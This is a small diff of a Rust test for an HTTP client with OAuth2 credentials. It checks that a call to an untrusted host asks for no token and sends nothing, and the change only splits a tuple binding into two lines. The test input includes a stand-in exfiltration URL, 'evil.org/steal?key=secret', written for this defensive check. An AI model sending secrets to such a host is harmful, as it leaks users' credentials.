@@ -159,7 +159,8 @@ fn a_base_url_takes_the_place_of_all_servers_and_trusted_hosts() {
 
 #[test]
 fn a_refused_call_asks_for_no_token_and_sends_nothing() {
-    let (fake, tokens) = (Fake::new([answer(200, "{}")]), Numbered::default());
+    let fake = Fake::new([answer(200, "{}")]);
+    let tokens = Numbered::default();
     let credential = Credential::provider(tokens.clone());
     let client = fake.configure(|builder| builder.credential("OAuth2", credential));
     let result = run(client.list_parts("1").at("https://evil.org/steal?key=secret").into_future());
